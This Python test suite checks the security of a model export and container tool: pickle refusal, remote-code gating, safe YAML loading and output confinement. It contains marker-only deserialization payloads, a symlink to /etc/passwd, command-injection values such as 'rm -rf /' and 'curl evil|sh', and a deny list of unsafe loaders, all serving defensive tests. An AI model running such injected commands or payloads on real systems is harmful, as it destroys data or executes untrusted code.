"""Security: nothing the user did not ask for is executed, and nothing lands outside where it should.

Weights only via safetensors (a pickle-only model is refused and never unpickled), trust_remote_code
off unless --trust-remote-code, YAML through safe loading, outputs stay inside --out, and the serving
container runs as a non-root user and binds where configured (its running uid and bind address are
checked in tests/test_container.py)."""

from __future__ import annotations

import json
import pickle
import re
import shutil
from pathlib import Path

import pytest

from tests.conftest import ROOT, run_cli, run_main
from tests.test_reliability import FAST, assert_clean_failure

PRODUCT = ["compressor", "exporters", "runtimes", "profiles"]


class _Payload:
    """Unpickling this creates a marker file: proof that a pickle was loaded."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def test_pickle_only_model_is_refused_and_never_unpickled(tmp_path, tiny_model_dir):
    model = tmp_path / "m"
    model.mkdir()
    for f in tiny_model_dir.iterdir():
        if f.suffix != ".safetensors":
            shutil.copy(f, model / f.name)
    marker = tmp_path / "PWNED"
    (model / "pytorch_model.bin").write_bytes(pickle.dumps({"x": _Payload(marker)}))
    out = tmp_path / "o"
    p = run_main(str(model), *FAST, "--out", str(out))
    assert_clean_failure(p, out, "holds only pickled PyTorch weights (pytorch_model.bin)")
    assert not marker.exists()


def _product_sources():
    for pkg in PRODUCT:
        yield from (ROOT / pkg).rglob("*.py")


@pytest.mark.parametrize("pattern", [r"torch\.load\(", r"pickle\.loads?\(", r"yaml\.(unsafe_)?load\(",
                                     r"yaml\.full_load", r"trust_remote_code\s*=\s*True",
                                     r"(?<![.\w])eval\(", r"(?<![.\w])exec\("])
def test_no_unsafe_loading_in_product_code(pattern):
    hits = [f"{f.relative_to(ROOT)}:{n}" for f in _product_sources()
            for n, line in enumerate(f.read_text().splitlines(), 1)
            if re.search(pattern, line.split("#", 1)[0])  # comments (and model-card lines) may tell users
            and "trust_remote_code=True`" not in line]  # how to opt in
    assert hits == [], hits


def test_models_load_asks_transformers_for_safetensors_only():
    src = (ROOT / "compressor" / "model" / "loading.py").read_text()
    assert "use_safetensors=True" in src


def _remote_code_model(tmp_path: Path, tiny_model_dir: Path, marker: Path) -> Path:
    model = tmp_path / "remote"
    shutil.copytree(tiny_model_dir, model)
    cfg = json.loads((model / "config.json").read_text())
    cfg.update(model_type="evilllama", architectures=["EvilForCausalLM"],
               auto_map={"AutoConfig": "evil.EvilConfig", "AutoModelForCausalLM": "evil.EvilForCausalLM"})
    (model / "config.json").write_text(json.dumps(cfg))
    (model / "evil.py").write_text(
        f"from pathlib import Path\nPath({str(marker)!r}).touch()\n"
        "from transformers import LlamaConfig, LlamaForCausalLM\n"
        "class EvilConfig(LlamaConfig):\n    model_type = 'evilllama'\n"
        "class EvilForCausalLM(LlamaForCausalLM):\n    config_class = EvilConfig\n")
    return model


def test_remote_code_does_not_run_without_the_flag(tmp_path, tiny_model_dir):
    marker = tmp_path / "PWNED"
    model = _remote_code_model(tmp_path, tiny_model_dir, marker)
    out = tmp_path / "o"
    p = run_main(str(model), *FAST, "--out", str(out))
    assert_clean_failure(p, out, "Could not load the model")
    assert not marker.exists()


@pytest.mark.slow
def test_remote_code_runs_with_the_flag(tmp_path, tiny_model_dir):
    """The counter-test: the same model's code does run when the user asks for it."""
    marker = tmp_path / "PWNED"
    model = _remote_code_model(tmp_path, tiny_model_dir, marker)
    run_cli(str(model), *FAST, "--trust-remote-code", "--out", str(tmp_path / "o"))
    assert marker.exists()


def test_yaml_profiles_are_loaded_safely(tmp_path):
    marker = tmp_path / "PWNED"
    prof = tmp_path / "evil.yaml"
    prof.write_text(f"name: !!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path "
                    f"['{marker}']]\n")
    p = run_main("profiles", "validate", str(prof))
    assert_clean_failure(p, None, "is not valid YAML")
    assert not marker.exists()


def test_export_writes_only_inside_out(tmp_path, tiny_model_dir):
    parent = tmp_path / "parent"
    parent.mkdir()
    out = parent / "o"
    p = run_main(str(tiny_model_dir), *FAST, "--out", str(out))
    assert p.returncode == 0, p.stderr[-3000:]
    assert [x.name for x in parent.iterdir()] == ["o"]  # no temporary sibling, nothing else
    for f in out.rglob("*"):
        assert not f.is_symlink() and out.resolve() in f.resolve().parents, f


@pytest.fixture(scope="module")
def tiny_export(tmp_path_factory, tiny_model_dir) -> Path:
    out = tmp_path_factory.mktemp("export") / "tiny"
    p = run_main(str(tiny_model_dir), *FAST, "--out", str(out))
    assert p.returncode == 0, p.stderr[-3000:]
    return out


def test_container_context_stays_inside_out_and_runs_as_non_root(tmp_path, tiny_export):
    ctx = tmp_path / "ctx"
    p = run_main("container", str(tiny_export), "--out", str(ctx), "--host", "127.0.0.1", "--port", "9001")
    assert p.returncode == 0, p.stderr[-3000:]
    assert sorted(x.name for x in tmp_path.iterdir()) == ["ctx"]
    for f in ctx.rglob("*"):
        assert not f.is_symlink() and ctx.resolve() in f.resolve().parents, f
    docker = (ctx / "Dockerfile").read_text()
    users = re.findall(r"^USER (\S+)", docker, flags=re.M)
    assert users[-1] == "10001:10001"
    assert docker.rindex("USER 10001:10001") > docker.rindex("USER 0")
    assert "HEALTHCHECK" in docker and 'FITPRUNE_HOST="127.0.0.1"' in docker and 'FITPRUNE_PORT="9001"' in docker
    assert ': "${FITPRUNE_HOST:=127.0.0.1}"' in (ctx / "entrypoint.sh").read_text()
    assert not list((ctx / "model").glob("*.bin"))


def test_container_refuses_links_out_of_the_model_directory(tmp_path, tiny_export):
    model = tmp_path / "m"
    shutil.copytree(tiny_export, model)
    (model / "tokenizer.json").unlink()
    (model / "tokenizer.json").symlink_to("/etc/passwd")
    ctx = tmp_path / "ctx"
    p = run_main("container", str(model), "--out", str(ctx))
    assert_clean_failure(p, ctx, "symbolic link (tokenizer.json)")


@pytest.mark.parametrize("args,match", [
    (["--served-model-name", "../../etc"], "served model name"),
    (["--host", "0.0.0.0; rm -rf /"], "is not an IP address"),
    (["--base-image", "ubuntu; curl evil|sh"], "not a valid image reference"),
    (["--runtime", "tensorrt"], "Unknown runtime"),
])
def test_container_refuses_unsafe_settings(tmp_path, tiny_export, args, match):
    ctx = tmp_path / "ctx"
    p = run_main("container", str(tiny_export), "--out", str(ctx), *args)
    assert_clean_failure(p, ctx, match)


def test_container_context_inside_the_export_is_refused(tiny_export):
    ctx = tiny_export / "ctx"
    p = run_main("container", str(tiny_export), "--out", str(ctx))
    assert_clean_failure(p, ctx, "must not be inside the export")


def test_container_copies_only_the_models_own_files(tmp_path, tiny_export):
    """The image's model folder is an allow-list: a stray script, notes or a report in the export
    stay out; weights, config, tokenizer and the model card go in."""
    from exporters.container import model_files

    model = tmp_path / "m"
    shutil.copytree(tiny_export, model)
    for stray in ("evil.py", "notes.txt", "setup.cfg", "data.json"):
        (model / stray).write_text("import os\n")
    names = {f.name for f in model_files(model)}
    assert not names & {"evil.py", "notes.txt", "setup.cfg", "data.json", "report.json", "report.md"}
    assert {"config.json", "model.safetensors", "tokenizer.json", "README.md"} <= names
